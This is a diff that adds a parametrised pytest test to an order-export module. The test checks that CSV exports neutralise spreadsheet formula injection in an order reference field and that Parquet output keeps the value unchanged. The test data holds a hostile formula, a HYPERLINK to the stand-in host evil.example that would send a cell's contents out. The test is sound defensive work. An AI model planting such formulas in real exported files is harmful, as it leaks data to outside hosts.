@@ -90,6 +90,21 @@ def guide_query() -> str:
     return str(query)
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+async def test_no_spreadsheet_takes_a_reference_for_a_formula(
+    market: Market, tmp_path: Path, start: str
+) -> None:
+    attack = start + 'HYPERLINK("https://evil.example/?"&A1)'
+    await market.ledger.execute("UPDATE orders SET reference = $1", attack)
+    await exported(market, tmp_path, "csv")
+    await exported(market, tmp_path, "parquet")
+    with (tmp_path / "orders.csv").open(newline="") as file:
+        assert [row["reference"] for row in csv.DictReader(file)] == ["'" + attack]
+    # What only programs read is left as it was written.
+    kept = duckdb.read_parquet(str(tmp_path / "orders.parquet")).select("reference").fetchall()
+    assert kept == [(attack,)]
+
+
 async def test_the_guide_s_example_runs(market: Market, tmp_path: Path) -> None:
     await exported(market, tmp_path, "parquet")
     rows = duckdb.sql(guide_query().replace("audit/", f"{tmp_path}/")).fetchall()
